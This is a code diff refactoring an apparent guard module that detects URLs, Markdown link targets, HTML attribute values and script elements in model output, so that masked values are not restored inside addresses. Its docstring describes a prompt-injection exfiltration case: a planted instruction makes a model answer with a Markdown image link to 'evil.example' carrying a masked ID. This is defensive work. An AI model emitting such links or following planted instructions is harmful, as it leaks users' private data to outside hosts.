@@ -4,288 +4,31 @@ contents to another host.
 An instruction planted in a document can make a model answer `![x](http://evil.example/?[ID_KXWQ])`.
 A client that renders this sends the query to that host, so no masked value is restored there.
 
-Four readers process the text in parallel; a position is in an address if one of them says so. Each
-covers at least what any renderer takes for an address. The result for a position depends only on
-the text before it, never on how the text arrived in pieces.
+The readers of all forms (`address_forms`) process the text in parallel; a position is in an address
+if one of them says so. The result for a position depends only on the text before it, never on how
+the text arrived in pieces.
 """
 
 from __future__ import annotations
 
 import re
 from collections.abc import Sequence
-from enum import Enum, auto
 from typing import Final
 
-MAX_HEAD = 2000
-"""Most code points of an address that is compared with the listed hosts; longer ones never
-match."""
+from threegate.guard.address_forms import (
+    BLANK,
+    MAX_HEAD,
+    AttributeReader,
+    ElementReader,
+    FormReader,
+    LinkReader,
+    UrlReader,
+)
 
 UNREAD = 256
 """Code points that may be unread; the stream machine keeps more (`stream_text.CONTEXT`)."""
-
-_BLANK: Final = r"[\t\n\f\r ]"
-_URL: Final = re.compile(
-    r"[/\\]{2}"  # //host, scheme://host, and what browsers read as such
-    r"|(?<![^\W_])(?:mailto|data|javascript|vbscript|tel|sms|smsto|geo|cid|blob|about|facetime|intent"
-    r"|magnet|callto|xmpp|sip|sips|urn|news|view-source|jar|feed):"
-    r"|(?<!\w)www\."
-    r"|[\w-]\.(?:[^\W\d_]{2,24}|xn--[a-z\d-]{2,24})(?::\d{1,5})?[/?#]"  # example.com/
-    r"|\d\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d{1,5})?[/?#]"
-    r"|&(?:#\d{1,7}|#x[0-9a-f]{1,6}|sol|bsol|colon|period|tab|newline);",  # spelled as entities
-    re.IGNORECASE,
-)
-_LONGEST: Final = 40
-"""More than the longest match of `_URL`."""
-_HTTP: Final = re.compile(r"(?<![\w+.-])https?:\Z", re.IGNORECASE)
-_END, _END_IN_ANGLES = re.compile(r"[\t\n\f\r <]"), re.compile(r"[\n>]")
-_NEVER: Final = re.compile(r"(?!)")
-
-
-class _Reader:
-    """Reads one text for one form of address. Positions count from the start of the text."""
-
-    __slots__ = ("_headed", "at", "begun", "head")
-
-    def __init__(self, at: int) -> None:
-        self.at = self._headed = at
-        self.begun: int | None = None  # where the address begins that it is in
-        self.head = ""
-
-    def read(self, text: str, base: int, to: int) -> None:
-        """Reads on to the position `to`. `text` begins at `base`."""
-        while self.at < to and self._step(text, base, to):
-            pass
-        if self.begun is not None and len(self.head) <= MAX_HEAD:
-            self.head += text[self._headed - base : to - base]
-            self._headed = to
-
-    def skip(self, to: int) -> None:
-        """The text up to this position is replaced by something else."""
-        self.at = max(self.at, to)
-
-    @property
-    def inside(self) -> bool:
-        return self.begun is not None
-
-    def _step(self, text: str, base: int, to: int) -> bool:
-        """One transition; False if there is none before `to`."""
-        raise NotImplementedError
-
-    def _begin(self, at: int) -> None:
-        self.begun = self._headed = at
-        self.head = ""
-
-
-class _Urls(_Reader):
-    """A URL up to the next blank, as those who make links of plain text read it; between angle
-    brackets up to the closing one."""
-
-    __slots__ = ("_end", "_origin")
-    _end: re.Pattern[str]
-
-    def __init__(self, at: int, *, string: bool = False) -> None:
-        """`string`: the text is a string of JSON, in which an address at the very beginning goes
-        on to the end, blanks included."""
-        super().__init__(at)
-        self._origin = at if string else None
-
-    def _step(self, text: str, base: int, to: int) -> bool:
-        pattern = _URL if self.begun is None else self._end
-        found = pattern.search(text, self.at - base, to - base)
-        if found is None:
-            self.at = max(self.at, to - _LONGEST) if self.begun is None else to
-            return False
-        self.at = base + found.end()
-        if self.begun is None:
-            start = _start(text, found.start())
-            self._end = self._end_of(text, base, start)
-            self._begin(base + start)
-        else:
-            self.begun = None
-        return True
-
-    def _end_of(self, text: str, base: int, start: int) -> re.Pattern[str]:
-        if self._origin is not None and base + start - self._origin <= _LONGEST:
-            before = text[self._origin - base : start].strip()
-            if not any(map(str.isspace, before)):
-                return _NEVER
-        return _END_IN_ANGLES if text[start - 1 : start] == "<" else _END
-
-
-def _start(text: str, slashes: int) -> int:
-    """Where the scheme begins that ends at the slashes."""
-    scheme = _HTTP.search(text, max(0, slashes - 8), slashes)
-    return scheme.start() if scheme else slashes
-
-
-class _Link(Enum):
-    NONE = auto()
-    BEFORE = auto()  # after `](` or `]:`; the target has not begun
-    TARGET = auto()
-    ANGLES = auto()  # a target in angle brackets may hold blanks
-
-
-class _Links(_Reader):
-    """Targets of Markdown links and images, and of reference definitions."""
-
-    __slots__ = ("_depth", "_state")
-    _EVENTS: Final = {
-        _Link.NONE: re.compile(r"\][(:]"),
-        _Link.BEFORE: re.compile(r"[^\t\n\f\r ]"),
-        _Link.TARGET: re.compile(r"\\.|\]\(|[()]|[\t\n\f\r ]", re.DOTALL),
-        _Link.ANGLES: re.compile(r"\\.|[\n>]", re.DOTALL),
-    }
-
-    def __init__(self, at: int) -> None:
-        super().__init__(at)
-        self._state, self._depth = _Link.NONE, 0
-
-    def _step(self, text: str, base: int, to: int) -> bool:
-        found = self._EVENTS[self._state].search(text, self.at - base, to - base)
-        if found is None:
-            half = text[to - 1 - base : to - base] in ("]", "\\")
-            self.at = max(self.at, to - half)
-            return False
-        self._take(found[0], base + found.start())
-        return True
-
-    def _take(self, event: str, start: int) -> None:
-        self.at = start + len(event)
-        match self._state:
-            case _Link.NONE:
-                self._expect(event, self.at)
-            case _Link.BEFORE:
-                self._open(event, start)
-            case _Link.ANGLES if len(event) == 1:
-                self._close()
-            case _Link.TARGET if event == "](":
-                self._expect(event, self.at)
-            case _Link.TARGET if event in "()":
-                self._depth += 1 if event == "(" else -1
-                if not self._depth:
-                    self._close()
-            case _Link.TARGET if event.isspace():
-                self._close()
-
-    def _expect(self, event: str, at: int) -> None:
-        self._state, self._depth = _Link.BEFORE, event.count("(")
-        if self._depth:
-            self._begin(at)
-
-    def _open(self, event: str, start: int) -> None:
-        self._state = _Link.ANGLES if event == "<" else _Link.TARGET
-        if self.begun is None:
-            self._begin(start)
-        if self._state is _Link.TARGET:
-            self.at = start  # may be a parenthesis
-
-    def _close(self) -> None:
-        self._state, self.begun = _Link.NONE, None
-
-    def skip(self, to: int) -> None:
-        super().skip(to)
-        if self._state is _Link.BEFORE:
-            self._close()
-
-
-_TAG: Final = re.compile(r"<[A-Za-z]")
-_IN_TAG: Final = re.compile(rf"[=\"'>]|{_BLANK}+")
-
-
-class _Attributes(_Reader):
-    """Values of HTML attributes.
-
-    Renderers disagree where a broken tag ends, so tags are not parsed: after the start of one, a
-    value is what follows an equals sign up to a blank, or up to the next quote of the kind that
-    follows the sign.
-    """
-
-    __slots__ = ("_bare", "_quotes", "_sign", "_tag")
-
-    def __init__(self, at: int) -> None:
-        super().__init__(at)
-        self._tag = False
-        self._quotes: set[str] = set()  # kinds of which the last one may have opened a value
-        self._bare = False  # in a value without quotes
-        self._sign = -1  # position after an equals sign and the blanks that follow it
-
-    def _step(self, text: str, base: int, to: int) -> bool:
-        if not self._tag:
-            return self._outside(text, base, to)
-        found = _IN_TAG.search(text, self.at - base, to - base)
-        if found is None:
-            self.at = to
-            return False
-        self.at = base + found.end()
-        self._take(found[0], base + found.start())
-        return True
-
-    def _outside(self, text: str, base: int, to: int) -> bool:
-        found = _TAG.search(text, self.at - base, to - base)
-        if found is None:
-            self.at = max(self.at, to - 1)
-            return False
-        self._tag, self.at = True, base + found.end()
-        return True
-
-    def _take(self, event: str, start: int) -> None:
-        follows = self._sign == start
-        if event == "=":
-            self._sign, self._bare = self.at, True
-            self._set(self.at)
-        elif event == ">":
-            self._bare, self._tag = False, bool(self._quotes)
-            self._set(None)
-        elif event.isspace():
-            self._sign = self.at if follows else -1
-            self._bare = self._bare and follows
-            self._set(self.at if follows else None)
-        else:
-            self._quote(event, opens=follows)
-
-    def _quote(self, quote: str, *, opens: bool) -> None:
-        self._quotes.discard(quote)
-        self._bare = self._bare and not opens
-        if opens:
-            self._quotes.add(quote)
-        self._set(self.at if opens else None)
-
-    def _set(self, at: int | None) -> None:
-        """A value begins at `at`, or one has ended; another may go on around it."""
-        if not (self._quotes or self._bare):
-            self.begun = None
-        elif self.begun is None or (at is not None and len(self._quotes) + self._bare == 1):
-            self._begin(self.at if at is None else at)
-
-
-_ELEMENT: Final = re.compile(r"<(script|style|form|textarea|select)[\s/>]", re.IGNORECASE)
-_LONGEST_ELEMENT: Final = 10
-
-
-class _Elements(_Reader):
-    """HTML elements whose contents are not shown as text: scripts, styles and form fields."""
-
-    __slots__ = ("_end",)
-    _end: re.Pattern[str]
-
-    def _step(self, text: str, base: int, to: int) -> bool:
-        pattern = _ELEMENT if self.begun is None else self._end
-        found = pattern.search(text, self.at - base, to - base)
-        if found is None:
-            self.at = max(self.at, to - _LONGEST_ELEMENT)
-            return False
-        self.at = base + found.end()
-        if self.begun is None:
-            self._end = re.compile(f"</{found[1]}", re.IGNORECASE)
-            self._begin(self.at)
-            self.head = "<<"  # no host's address
-        else:
-            self.begun = None
-        return True
-
-
 _ADDRESS: Final = re.compile(
-    rf"{_BLANK}*<?(?i:https?)://([A-Za-z0-9.-]+)(?::\d{{1,5}})?[/?#]((?!.*//)[^\s\\<>\"'`]*)"
+    rf"{BLANK}*<?(?i:https?)://([A-Za-z0-9.-]+)(?::\d{{1,5}})?[/?#]((?!.*//)[^\s\\<>\"'`]*)"
 )
 
 
@@ -299,7 +42,8 @@ class AddressReader:
 
     def _begin(self, at: int, *, string: bool = False) -> None:
         self._at = at
-        self._readers = (_Urls(at, string=string), _Links(at), _Attributes(at), _Elements(at))
+        others = (LinkReader(at), AttributeReader(at), ElementReader(at))
+        self._readers: tuple[FormReader, ...] = (UrlReader(at, string=string), *others)
 
     def read(self, text: str, base: int, to: int) -> None:
         """On to the position `to`. `text` begins at `base`, which must be near what was read."""
